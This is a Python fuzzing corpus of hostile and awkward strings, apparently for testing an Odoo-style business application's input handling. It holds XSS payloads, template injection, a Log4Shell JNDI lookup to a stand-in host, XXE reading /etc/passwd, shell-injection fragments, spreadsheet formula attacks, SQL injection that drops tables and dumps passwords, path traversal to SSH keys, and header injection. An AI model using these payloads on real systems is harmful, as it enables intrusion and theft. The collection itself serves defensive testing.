"""Strings that have done harm somewhere: markup, templates, formulas, odd letters."""

_MARKUP = """
<script>alert(1)</script>
<ScRiPt src=//x.example.com/a.js></sCrIpT>
<img src=x onerror=alert(1)>
<img src="x` `<script>alert(1)</script>"` `>
<svg onload=alert(1)>
<svg><script>alert&#40;1)</script>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<body onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<a href="javascript:alert(1)">x</a>
<a href="java&#x0A;script:alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<object data="javascript:alert(1)">
<embed src="javascript:alert(1)">
<form action="javascript:alert(1)"><input type=submit></form>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<math href="javascript:alert(1)">x</math>
<base href="//x.example.com/">
<link rel=stylesheet href=//x.example.com/a.css>
<meta http-equiv=refresh content="0;url=//x.example.com">
<style>@import'//x.example.com/a.css';</style>
<div style="background:url(javascript:alert(1))">x</div>
<div style="width:expression(alert(1))">x</div>
<table background="javascript:alert(1)">
<marquee onstart=alert(1)>x</marquee>
<x onclick=alert(1)>x
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</select><script>alert(1)</script>
</script><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
" onmouseover="alert(1)
' onmouseover='alert(1)
` onmouseover=`alert(1)
javascript:alert(1)
JaVaScRiPt:alert(1)//
vbscript:msgbox(1)
data:text/html,<script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
\\x3cscript\\x3ealert(1)\\x3c/script\\x3e
<script\\x20type="text/javascript">alert(1);</script>
<<script>alert(1);//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)>
<button formaction=javascript:alert(1)>x</button>
<isindex action=javascript:alert(1)>
<t t-out="env.user.password"/>
<t t-raw="request.session"/>
<t t-call="web.login"/>
<t t-foreach="range(10**9)" t-as="i">x</t>
<div t-att-onclick="alert(1)">x</div>
<span t-field="user.login"/>
<field name="x" on_change="1"/>
<button name="unlink" type="object"/>
<owl-component t-on-click="alert(1)"/>
"""
_TEMPLATES = """
{{ 7*7 }}
{{ object.env.user.login }}
{{ ''.__class__.__mro__ }}
${7*7}
${object.company_id.name}
#{7*7}
<%= 7*7 %>
{% for x in y %}
%(name)s
%s
%d
%(password)s %%
{0.__class__}
{name}
{}
$(id)
`id`
; ls -la
| cat /etc/passwd
&& reboot
$HOME
${jndi:ldap://x.example.com/a}
"""
_FORMULAS = """
=cmd|'/C calc'!A0
=1+1
+1+1
-1+1
@SUM(1+1)
=HYPERLINK("http://x.example.com","x")
=IMPORTXML("http://x.example.com","//a")
\t=1+1
;=1+1
"=1+1"
"""
_QUERIES = """
' OR 1=1 --
'; DROP TABLE service_ticket; --
" OR ""="
') UNION SELECT login, password FROM res_users --
1; SELECT pg_sleep(10)
\\'; SELECT 1
%' AND 1=1 --
_%_
\\
\\\\
[('id','>',0)]
__import__('os').system('id')
"""
_PATHS = """
../../../../etc/passwd
..\\..\\windows\\win.ini
/etc/passwd
C:\\boot.ini
file:///etc/passwd
....//....//etc/passwd
%2e%2e%2fetc%2fpasswd
.htaccess
con
a.pdf.exe
a"b'c.png
a;b&c|d.png
~/.ssh/id_rsa
-rf *
name.png/
"""
_LETTERS = (
    "\u202egnp.exe",
    "\u2066\u202eabc\u2069",
    "\u200b\u200c\u200d\ufeffzero",
    "\u0645\u0631\u062d\u0628\u0627",
    "\u05e9\u05dc\u05d5\u05dd",
    "空调不制冷",
    "冷氣不冷，滴水",
    "ﷺ" * 20,
    "Z\u0351\u036b\u0343a\u0336\u0322l\u0328\u0345g\u0340\u0341o",
    "\U0001f4a3\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "\U0001f1e7\U0001f1ea\U0001f3f4",
    "İstanbul ıI",
    "ß ſ ﬁ Å",
    "\u2028line\u2029paragraph",
    "\x85next",
    "\ufffd\ufffe",
    "\xa0\u3000 ",
    "Ω≈ç√∫˜µ≤≥÷",
    "𝕋𝕙𝕖 𝖖𝖚𝖎𝖈𝖐",
    "\u1680\u180e",
    "ﾟ･✿ヾ╲(｡◕‿◕｡)",
)
_CONTROL = (
    "a\x00b",
    "\x00",
    "a\x01\x02\x1fb",
    "a\x7fb",
    "a\x1b[31mred",
    "a\x08\x08b",
    "Subject\r\nBcc: x@example.com",
    "Subject\nBcc: x@example.com",
    "Subject\rX-Evil: 1",
    "x\r\n\r\n<script>alert(1)</script>",
    "x%0d%0aSet-Cookie: a=b",
    "\x0b\x0c",
    "=?utf-8?Q?=0D=0ABcc:x=40example.com?=",
    "=?utf-8?B?DQpCY2M6IHhAZXhhbXBsZS5jb20=?=",
)
_AWKWARD = (
    "",
    " ",
    ".",
    "0",
    "-1",
    "null",
    "undefined",
    "NaN",
    "true",
    "[object Object]",
    "1e309",
    "9" * 40,
    "A" * 5000,
    "<b>" * 500,
    "\n" * 200,
    "x " * 2000,
    "'" * 100,
    '"' * 100,
    "\\" * 100,
    "<" * 300,
    "&" * 300,
    "#" * 100,
    "%" * 100,
    "\u0301" * 300,
    "O'Neill & Söhne <info@example.com>",
    '"Quoted" <x@example.com>, "Other" <y@example.com>',
    "<x@example.com>",
    "x@example.com\nBcc: y@example.com",
)

CORPUS = [
    *(
        line
        for block in (_MARKUP, _TEMPLATES, _FORMULAS, _QUERIES, _PATHS)
        for line in block.split("\n")[1:-1]
    ),
    *_LETTERS,
    *_CONTROL,
    *_AWKWARD,
]
